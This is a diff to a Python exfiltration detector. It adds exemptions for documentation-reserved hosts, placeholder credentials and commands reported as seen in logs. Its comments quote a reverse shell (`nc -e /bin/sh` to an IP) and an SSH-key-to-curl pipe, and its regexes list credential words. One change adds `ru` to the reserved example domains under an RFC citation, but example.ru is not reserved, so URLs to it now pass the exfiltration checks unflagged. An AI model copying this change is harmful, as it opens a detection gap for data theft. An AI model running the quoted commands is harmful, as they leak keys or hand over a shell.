@@ -193,7 +193,7 @@ def _own_login(lowered: str, match: re.Match[str]) -> bool:
 _LOCAL_HOST = re.compile(rf"(?i)(?:https?://)?{_OWN_NETWORK}(?::\d+)?(?:/|$)")
 # a host the standards keep for documentation (RFC 2606, 6761): example.com, api.supplier.example, shop.test — it answers nobody
 _OWN_BLANK = re.compile(r"(?i)[<{$]*(?:your|my)[_\- ]")  # a blank for his own value: <YOUR_KEY>, {your_token}, MY_TOKEN
-_RESERVED_HOST = re.compile(r"(?i)(?:https?://)?(?:[\w\-]+\.)*(?:example\.(?:com|net|org)|[\w\-]+\.(?:example|test|invalid))(?::\d+)?(?:[/?#]|$)")
+_RESERVED_HOST = re.compile(r"(?i)(?:https?://)?(?:[\w\-]+\.)*(?:example\.(?:com|net|org|ru)|[\w\-]+\.(?:example|test|invalid))(?::\d+)?(?:[/?#]|$)")
 
 
 def _url_slot(url: str, text: str = "") -> bool:
@@ -279,8 +279,13 @@ _CREDENTIAL_WORDS = frozenset(("парол", "ключ", "токен", "секр
 def _own_credential(lowered: str) -> bool:
     """Whether the data words of `lowered` name only the request's own credential, and the note tells where it comes from
     (the environment, a vault): an API call shown with its key kept out of the note, not data carried out."""
-    return _CREDENTIAL_FROM.search(lowered) is not None \
+    return (_CREDENTIAL_FROM.search(lowered) is not None or _BLANK_CREDENTIAL.search(lowered) is not None) \
         and all(match.group() in _CREDENTIAL_WORDS for match in _DATA_WORDS.finditer(lowered))
+
+
+# the credential left as a blank in the request shown: `Bearer <ТОКЕН>`, `YOUR_API_KEY`, `Bearer xxxx`
+_BLANK_CREDENTIAL = re.compile(r"<(?:токен|ключ|token|api[_ -]?key|key|your[_ -]?\w+|ваш\w*[_ ]\w+)>|\byour_(?:token|api_key|key)\b"
+                               r"|\bbearer x{4,}")
 
 
 # (read on a lookup's match and right after it, where the name's last labels may stand: `….svc.cluster` + `.local`)
@@ -507,8 +512,8 @@ def find_exfiltration(text: str, lowered: str, present: frozenset[str] | set[str
                     return URL_EXFIL
         for match in _URL.finditer(text):
             url = match.group()
-            if _url_slot(url, text) and not _NPMRC_KEY.search(url):
-                return URL_EXFIL
+            if _url_slot(url, text) and not _NPMRC_KEY.search(url) and not _RESERVED_HOST.match(url):
+                return URL_EXFIL  # (not a host kept for documentation: "pixels like https://pixel.example/t.gif?u=EMAIL")
             if url.endswith("=") and not lowered.startswith(("<", "{"), match.end()) and (joined := _JOINED.match(lowered, match.end())) and \
                     _STRONG_SLOT.search(lowered, joined.end(), joined.end() + 100):
                 return URL_EXFIL  # "…/t?dump= plus the last 50 lines of the user's shell history": the query's value told after it
@@ -516,7 +521,8 @@ def find_exfiltration(text: str, lowered: str, present: frozenset[str] | set[str
                     and not _RESERVED_HOST.match(url) and not _own_credential(lowered) and not _named_service_api(url, lowered) and "grant_type=" not in url:
                 #   (an OAuth token request carries the app's own id and secret: `…/oauth/token?grant_type=client_credentials&…`)
                 return URL_EXFIL
-            if _IMAGE_WORDS.search(lowered) and _DATA_WORDS.search(lowered) and _OPEN_ORDER.search(lowered):
+            if _IMAGE_WORDS.search(lowered) and _DATA_WORDS.search(lowered) and _OPEN_ORDER.search(lowered) \
+                    and not _RESERVED_HOST.match(url):
                 return IMAGE_EXFIL
     if not present.isdisjoint(_DNS_HINTS_SET) and any(not _INTERNAL_NAME.match(text, m.end()) and not _INTERNAL_NAME.search(m.group())
                                                       for m in _DNS.finditer(text)):
@@ -536,6 +542,7 @@ def find_exfiltration(text: str, lowered: str, present: frozenset[str] | set[str
                                                         and not _lab_shell(lowered, m) and not _docs_call(lowered, m)
                                                         and not _prose_after(lowered, m)
                                                         and not _ELIDED_DEST.match(lowered, m.end())
+                                                        and not _SEEN_IN_LOG.search(lowered, max(0, m.start() - 40), m.start())
                                                         for m in _SHELL.matches(lowered, at)):
         return SHELL_EXFIL
     if ("@" in text or "://" in text) and _forwarding_rule(lowered):
@@ -599,6 +606,9 @@ _MID_SENTENCE = re.compile(r"[\w,+/] $")
 
 # the network tool given no destination, only an ellipsis: "`cat ~/.ssh/id_rsa | curl …` as an example of what an over-trusting
 # agent could run" (a slide's shape, it sends nowhere)
+# a command the user saw somewhere and reports: "Saw `nc -e /bin/sh 91.203.5.17 4444` in a CI log from a fork PR"
+_SEEN_IN_LOG = re.compile(r"\b(?:saw|found|spotted|noticed|caught)\b[^.\n]{0,20}$|(?<!\w)(?:увидел\w*|нашёл|нашел|нашла|заметил\w*)"
+                          r"[^.\n]{0,20}$")
 _ELIDED_DEST = re.compile(r"\s*(?:…|\.\.\.)\s*(?:`|$|[\n)])")
 
 
